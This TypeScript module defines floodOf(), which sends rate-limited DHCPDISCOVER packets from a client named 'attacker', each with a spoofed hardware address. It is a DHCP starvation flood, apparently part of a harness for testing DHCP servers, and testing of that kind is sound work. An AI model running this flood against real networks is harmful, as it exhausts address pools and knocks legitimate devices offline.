import { messageType } from './packet.ts';
import type { RawClient } from './raw-client.ts';

/** The kernel's clock is asked so often for how many are due: milliseconds. */
const STEP = 5;

/** Sends DHCPDISCOVERs at a rate, each from a hardware address of its own, until it is stopped; returns what stops it and counts them. */
export function floodOf(attacker: RawClient, rate: number): () => number {
  const begin = performance.now();
  let sent = 0;
  const timer = setInterval(() => {
    const due = ((performance.now() - begin) / 1000) * rate;
    for (let count = 0; sent < due && count < 500; count += 1) {
      sent += 1;
      const digits = sent.toString(16).padStart(6, '0');
      const chaddr = `52:54:77:${digits.slice(0, 2)}:${digits.slice(2, 4)}:${digits.slice(4)}`;
      attacker.send({ chaddr, options: [messageType('DHCPDISCOVER')] });
    }
  }, STEP);
  return () => {
    clearInterval(timer);
    return sent;
  };
}
